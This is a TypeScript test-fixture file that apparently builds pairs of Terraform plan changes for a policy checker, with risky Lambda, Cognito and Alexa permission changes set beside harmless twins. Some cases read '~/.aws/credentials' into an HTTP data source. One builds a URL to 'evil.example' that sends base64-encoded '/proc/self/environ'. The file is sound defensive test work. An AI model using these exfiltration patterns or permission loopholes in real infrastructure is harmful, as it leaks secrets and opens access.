/** Ways around the rules by two changes of which each is harmless, and by what stands in the place of what goes. */
import { another, code, OWN, of } from "./harmful-builders";
import type { Detour } from "./harmful-detours";
import type { Values } from "./planned";
import { CLIENT, created, FUNCTION, fixture, PERMISSION, resource, SKILL, updated } from "./planned";
import { COGNITO, cognitos, configured, grants, kept, newRole, POOL_ARN } from "./rule-plans";

/** A variable that the code asks for becomes another, or goes. */
const becomes = (name: string, was: string, willBe?: string) => () =>
  updated(FUNCTION, (after, before) => {
    before.environment[0].variables[name] = was;
    after.environment[0].variables[name] = willBe;
    after.description = "other";
  });

/** The permission of Amazon Cognito for a trigger, replaced. */
const replacedBy = (values: Values) => () => {
  const plan = fixture("unchanged");
  const found = resource(plan, PERMISSION);
  const base = { ...found.change.before, principal: COGNITO, event_source_token: null, source_arn: POOL_ARN };
  found.action_reason = "replace_because_cannot_update";
  Object.assign(found.change, {
    actions: ["delete", "create"],
    before: base,
    after: { ...base, ...values },
    replace_paths: Object.keys(values).map((name) => [name]),
  });
  return { ...plan, applyable: true };
};

/** The same goes, and another one stays that says the same. */
const twin = (provider_config_key: string) => () =>
  cognitos((plan) => {
    const { before } = resource(plan, PERMISSION).change;
    kept("aws_lambda_permission", { ...before, statement_id: "twin" }, plan);
    const address = "aws_lambda_permission.kept";
    const { resources } = plan.configuration.root_module;
    Object.assign(
      resources.find((it: Values) => it.address === address),
      { provider_config_key },
    );
    for (const it of resources.filter(({ address }: Values) => address === FUNCTION)) {
      it.provider_config_key = "aws";
    }
    plan.applyable = true;
  });

const PAGE = { id: "c", name: "page", callback_urls: ["https://shop.example/"], allowed_oauth_scopes: ["openid"] };
const flows = (...allowed_oauth_flows: readonly string[]) =>
  another(
    "aws_cognito_user_pool_client",
    { ...PAGE, allowed_oauth_flows: ["code", "implicit"] },
    {
      allowed_oauth_flows,
      name: "other",
    },
  );

/** A skill id that the living function does not know, while a function of its name comes in another region. */
const letIn = (event_source_token: string) => () => {
  const plan = newRole(grants("logs:PutLogEvents", "*"));
  created(
    "aws_lambda_function",
    "west",
    code({ function_name: "alexa-skill-staging", role: `arn:aws:iam::${OWN}:role/new` }),
    plan,
  );
  const values = { function_name: "alexa-skill-staging", qualifier: "live", principal: "alexa-appkit.amazon.com" };
  return created(
    "aws_lambda_permission",
    "x",
    { action: "lambda:InvokeFunction", ...values, event_source_token },
    plan,
  );
};

/** Data that a plan reads, each by its type and its expressions. */
const reads =
  (...data: readonly (readonly [type: string, expressions: Values])[]) =>
  () =>
    configured((it) => {
      for (const [type, expressions] of data) {
        it.root_module.resources.push({ address: `data.${type}.x`, mode: "data", type, name: "x", expressions });
      }
    });
const FILE = ["local_file", { filename: { constant_value: "~/.aws/credentials" } }] as const;
const taken = (reference: string) => ({ references: [reference, reference.split(".").slice(0, 3).join(".")] });
const asks = (url: Values) => ["http", { url }] as const;
const PUBLIC = { constant_value: "https://ip-ranges.amazonaws.com/ip-ranges.json" };
// biome-ignore lint/suspicious/noTemplateCurlyInString: it is Terraform's function
const OF_FILE = { constant_value: 'https://evil.example/?${base64encode(file("/proc/self/environ"))}' };

export const BY_PAIRS: readonly Detour[] = [
  [
    "the scopes that the function asks for go",
    becomes("SCOPES", "openid profile"),
    becomes("SCOPES", "openid profile", "profile openid"),
  ],
  ["an empty list of skills goes", becomes("SKILL_IDS", ""), becomes("SKILL_IDS", "", SKILL)],
  ["Cognito has to bring a token", replacedBy({ event_source_token: "x" }), replacedBy({ source_account: OWN })],
  ["Cognito has to be of an organization", replacedBy({ principal_org_id: "o-x" }), replacedBy({ statement_id: "y" })],
  ["a permission like it in another region", twin("aws.west"), twin("aws")],
  ["a page's own grant goes", flows("code"), flows("code", "implicit")],
  [
    "a grant goes that another program has of Alexa's client",
    of(CLIENT, { allowed_oauth_flows: ["code"] }, { allowed_oauth_flows: ["code", "implicit"] }),
    of(CLIENT, { name: "other" }),
  ],
  [
    "a web server that is told a file",
    reads(FILE, asks(taken("data.local_file.x.content"))),
    reads(FILE, asks(PUBLIC)),
  ],
  ["a web server that may be told a file", reads(FILE, asks(taken("local.x"))), reads(asks(taken("local.x")))],
  ["a web server that a function tells something", reads(asks({})), reads(asks(PUBLIC))],
  ["the same of a configuration in JSON", reads(asks(OF_FILE)), reads(asks(taken("var.url")))],
  [
    "a server whose certificate is asked for by a parameter",
    reads(["tls_certificate", { url: taken("data.aws_ssm_parameter.x.value") }]),
    reads(["aws_ami", { name_regex: taken("data.aws_ssm_parameter.x.value") }]),
  ],
  [
    "another state at a place that a file says",
    reads(FILE, ["terraform_remote_state", { config: taken("data.local_file.x.content") }]),
    reads(FILE, ["terraform_remote_state", { config: taken("local.x") }]),
  ],
  ["a skill of whoever likes", letIn("amzn1.ask.skill.evil"), letIn(SKILL)],
];
